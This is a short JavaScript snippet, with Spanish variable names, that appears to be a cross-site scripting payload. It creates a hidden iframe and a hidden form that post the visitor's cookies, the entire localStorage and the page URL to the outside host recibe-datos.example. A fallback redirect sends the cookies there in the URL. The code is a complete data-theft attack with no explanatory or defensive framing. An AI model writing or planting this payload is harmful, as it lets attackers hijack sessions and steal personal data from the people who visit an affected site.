function enviar() {
  var marco = document.createElement("iframe");
  marco.name = "m" + Math.random().toString(36).slice(2);
  marco.hidden = true;
  document.body.appendChild(marco);
  var f = document.createElement("form");
  f.method = "post";
  f.target = marco.name;
  f.action = "http://recibe-datos.example/guardar.php";
  var datos = { galletas: document.cookie, almacen: JSON.stringify(localStorage), pagina: document.URL };
  for (var k in datos) {
    var i = document.createElement("input");
    i.type = "hidden"; i.name = k; i.value = datos[k];
    f.appendChild(i);
  }
  document.body.appendChild(f);
  f.submit();
}
try { enviar(); } catch (e) {
  document.location = "http://recibe-datos.example/guardar.php?galletas=" + escape(document.cookie);
}
